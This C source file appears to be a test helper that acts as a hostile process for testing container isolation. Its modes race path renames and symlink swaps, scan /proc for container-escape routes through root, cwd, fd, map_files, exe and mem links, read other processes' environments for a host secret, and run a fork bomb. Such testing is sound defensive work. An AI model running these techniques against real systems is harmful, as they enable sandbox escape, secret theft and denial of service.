/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A neighbour, or the container itself, that attacks for as long as it lives. It prints "ready" once it has begun.
 *
 *     hostile swap PATH OTHER...   exchange PATH with each OTHER in turn, as fast as the kernel can (RENAME_EXCHANGE)
 *     hostile relink LINK TEXT...  make LINK lead to each TEXT in turn
 *     hostile reach MARKER COUNT   look through every process that shows up in /proc for a way to MARKER, a path that
 *                                  only the host has; how many were met goes into the file COUNT
 *     hostile bomb                 fork, and never stop
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define EXCHANGE 2u /* RENAME_EXCHANGE */
#define UP "/../../../../../../../../../../../../../../../.."
/* "/proc/", any name that a directory may have, "/environ" */
#define PROC_PATH 300
#define SECRET "HOST_SECRET="

static void ready(void)
{
	printf("ready\n");
	fflush(stdout);
}

static _Noreturn void swap(char **paths)
{
	ready();
	for (;;)
		for (char **other = paths + 1; *other; other++)
			syscall(SYS_renameat2, AT_FDCWD, paths[0], AT_FDCWD, *other, EXCHANGE);
}

static _Noreturn void relink(const char *link, char **texts)
{
	char fresh[PATH_MAX];

	snprintf(fresh, sizeof(fresh), "%s.new", link);
	ready();
	for (;;) {
		for (char **text = texts; *text; text++) {
			unlink(fresh);
			if (symlink(*text, fresh) == 0)
				(void)!rename(fresh, link);
		}
	}
}

/* --- reach --- */

static void out(const char *how, const char *path)
{
	printf("OUT %s %s\n", how, path);
	fflush(stdout);
}

static void try_path(const char *how, const char *base, const char *marker)
{
	static const char *const between[] = {"", UP};
	char path[PATH_MAX];

	for (size_t i = 0; i < sizeof(between) / sizeof(between[0]); i++) {
		snprintf(path, sizeof(path), "%s%s%s", base, between[i], marker);
		int fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		out(how, path);
		close(fd);
	}
}

static void try_links(const char *pid, const char *directory, const char *marker)
{
	char path[PATH_MAX];

	snprintf(path, sizeof(path), "/proc/%s/%s", pid, directory);
	DIR *stream = opendir(path);
	if (!stream)
		return;
	for (struct dirent *entry; (entry = readdir(stream));) {
		if (entry->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/%s/%s", pid, directory, entry->d_name);
		try_path(directory, path, marker);
	}
	closedir(stream);
}

/* Whether the program of this process is no file of ours. Of one that has ended nobody can say. */
static int is_foreign(const char *pid)
{
	char path[PROC_PATH];
	struct stat exe, root;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	return stat(path, &exe) == 0 && stat("/", &root) == 0 && exe.st_dev != root.st_dev;
}

static void try_exe(const char *pid)
{
	char path[PROC_PATH];

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	/* what is there anyway: the attack that works does no harm */
	if (is_foreign(pid) && pwrite(fd, "\177", 1, 0) == 1)
		out("exe", path);
	close(fd);
}

static void try_mem(const char *pid)
{
	char path[PROC_PATH];

	snprintf(path, sizeof(path), "/proc/%s/mem", pid);
	int fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		return;
	if (is_foreign(pid))
		out("mem", path);
	close(fd);
}

static void try_environ(const char *pid)
{
	char path[PROC_PATH], text[8192];

	snprintf(path, sizeof(path), "/proc/%s/environ", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	ssize_t size = read(fd, text, sizeof(text));
	if (size > 0 && memmem(text, (size_t)size, SECRET, strlen(SECRET)))
		out("environ", path);
	close(fd);
}

static void attack(const char *pid, const char *marker)
{
	char path[PROC_PATH];

	snprintf(path, sizeof(path), "/proc/%s/root", pid);
	try_path("root", path, marker);
	snprintf(path, sizeof(path), "/proc/%s/cwd", pid);
	try_path("cwd", path, marker);
	try_links(pid, "fd", marker);
	try_links(pid, "map_files", marker);
	try_exe(pid);
	try_mem(pid);
	try_environ(pid);
}

static int reach(const char *marker, const char *count_file)
{
	unsigned long met = 0;
	long last = 0;
	int file = open(count_file, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);

	ready();
	for (;;) {
		DIR *stream = opendir("/proc");
		if (!stream)
			return 1;
		for (struct dirent *entry; (entry = readdir(stream));) {
			long pid = strtol(entry->d_name, NULL, 10);
			if (pid <= 1 || pid == getpid())
				continue;
			attack(entry->d_name, marker);
			met += pid != last;
			last = pid;
		}
		closedir(stream);
		char text[32];
		int size = snprintf(text, sizeof(text), "%lu\n", met);
		(void)!pwrite(file, text, (size_t)size, 0);
	}
}

static _Noreturn void bomb(void)
{
	signal(SIGCHLD, SIG_IGN);
	ready();
	for (;;)
		(void)!fork();
}

int main(int argc, char **argv)
{
	if (argc > 3 && strcmp(argv[1], "swap") == 0)
		swap(argv + 2);
	if (argc > 3 && strcmp(argv[1], "relink") == 0)
		relink(argv[2], argv + 3);
	if (argc == 4 && strcmp(argv[1], "reach") == 0)
		return reach(argv[2], argv[3]);
	if (argc == 2 && strcmp(argv[1], "bomb") == 0)
		bomb();
	fprintf(stderr, "usage: hostile swap|relink|reach|bomb ARGUMENT...\n");
	return 2;
}
